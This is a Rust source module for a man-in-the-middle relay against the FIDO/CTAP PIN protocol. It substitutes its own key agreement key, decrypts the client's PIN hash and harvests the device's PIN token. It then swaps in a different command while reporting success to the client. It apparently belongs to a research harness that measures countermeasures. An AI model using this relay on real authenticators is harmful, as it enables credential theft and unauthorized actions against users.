//! The relay that confounds one API call into another.
//!
//! During the PIN ceremony the relay answers the client's key agreement
//! with its own key, so it can read the PIN hash, replay it to the device
//! and learn the real token before handing that token back to the client.
//! When the client then sends API A, the relay runs its payload (API B)
//! instead and tells the client API A went through.

use rand::SeedableRng;
use rand_chacha::ChaCha20Rng;

use super::wire::{self, Denial, Wire};
use super::Leak;
use crate::authenticator::Countermeasure;
use crate::cbor::{CborMap, CborValue};
use crate::codec::{ClientPinSub, Command, CtapRequest, CtapResponse, Subcommand};
use crate::crypto::{aes256_cbc_decrypt, aes256_cbc_encrypt, cose_to_public_key, AgreementKey};
use crate::messages::ClientPinParams;
use crate::transports::{Action, MitmHook, Upstream};

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct PayloadResult {
    pub success: bool,
    pub outcome: String,
    pub blocked_by: Option<Countermeasure>,
    pub uv_used: bool,
    pub leak: Option<Leak>,
    pub detail: Vec<(&'static str, String)>,
}

impl PayloadResult {
    pub fn from_status(ok: bool, status: impl ToString) -> Self {
        PayloadResult { success: ok, outcome: status.to_string(), ..Default::default() }
    }

    pub(crate) fn denied(d: Denial) -> Self {
        PayloadResult { outcome: d.status.to_string(), blocked_by: d.blocked_by, ..Default::default() }
    }
}

/// What the relay does with API B. Gets the device, the harvested token
/// (if the victim's flow carried one) and the relay's RNG.
pub type Payload<'p> = Box<dyn FnMut(&mut dyn Wire, Option<&[u8; 32]>, &mut ChaCha20Rng) -> PayloadResult + 'p>;

pub struct ConfusionHook<'p> {
    api_a: Command,
    rng: ChaCha20Rng,
    offered: Option<AgreementKey>,
    token: Option<[u8; 32]>,
    payload: Payload<'p>,
    fired: bool,
    result: Option<PayloadResult>,
    harvest_denial: Option<Denial>,
}

impl<'p> ConfusionHook<'p> {
    pub fn new(api_a: Command, seed: u64, payload: Payload<'p>) -> Self {
        ConfusionHook {
            api_a,
            rng: ChaCha20Rng::seed_from_u64(seed),
            offered: None,
            token: None,
            payload,
            fired: false,
            result: None,
            harvest_denial: None,
        }
    }

    pub fn fired(&self) -> bool {
        self.fired
    }

    pub fn take_result(&mut self) -> Option<PayloadResult> {
        self.result.take()
    }

    pub fn token(&self) -> Option<&[u8; 32]> {
        self.token.as_ref()
    }

    /// The device refused the replayed PIN ceremony.
    pub fn harvest_denial(&self) -> Option<(crate::codec::StatusCode, Option<Countermeasure>)> {
        self.harvest_denial.map(|d| (d.status, d.blocked_by))
    }

    fn fire(&mut self, up: &mut Upstream<'_>) {
        self.fired = true;
        let token = self.token;
        self.result = Some((self.payload)(up, token.as_ref(), &mut self.rng));
    }

    fn relay_pin_token(&mut self, req: &CtapRequest, up: &mut Upstream<'_>) -> Action {
        let Some(offered) = &self.offered else { return Action::Pass };
        let params = req.params().and_then(|m| ClientPinParams::from_map(ClientPinSub::GetPinToken, m).ok());
        let Some(params) = params else { return Action::Pass };
        let Some(peer) = params.key_agreement.as_ref().and_then(cose_to_public_key) else { return Action::Pass };
        let secret = offered.shared_secret(&peer);
        let hash = params
            .pin_hash_enc
            .as_deref()
            .and_then(|enc| aes256_cbc_decrypt(&secret, enc))
            .and_then(|h| <[u8; 16]>::try_from(h.as_slice()).ok());
        let Some(hash) = hash else { return Action::Pass };
        match wire::pin_token(up, &hash, &mut self.rng) {
            Err(d) => {
                self.harvest_denial = Some(d);
                Action::Respond(CtapResponse::error(d.status))
            }
            Ok(token) => {
                self.token = Some(token);
                if self.api_a == Command::ClientPin && !self.fired() {
                    self.fire(up);
                }
                let enc = aes256_cbc_encrypt(&secret, &token).expect("two blocks");
                Action::Respond(CtapResponse::ok_with(CborMap::new().with(2, CborValue::from(enc))))
            }
        }
    }
}

impl MitmHook for ConfusionHook<'_> {
    fn intercept(&mut self, req: &CtapRequest, up: &mut Upstream<'_>) -> Action {
        match req.subcommand() {
            Some(Subcommand::ClientPin(ClientPinSub::GetKeyAgreement)) => {
                let key = AgreementKey::generate(&mut self.rng);
                let resp = CtapResponse::ok_with(CborMap::new().with(1, key.public_cose()));
                self.offered = Some(key);
                return Action::Respond(resp);
            }
            Some(Subcommand::ClientPin(ClientPinSub::GetPinToken)) => return self.relay_pin_token(req, up),
            _ => {}
        }
        if req.command() == self.api_a && !self.fired() {
            self.fire(up);
            return Action::Respond(CtapResponse::ok());
        }
        Action::Pass
    }
}
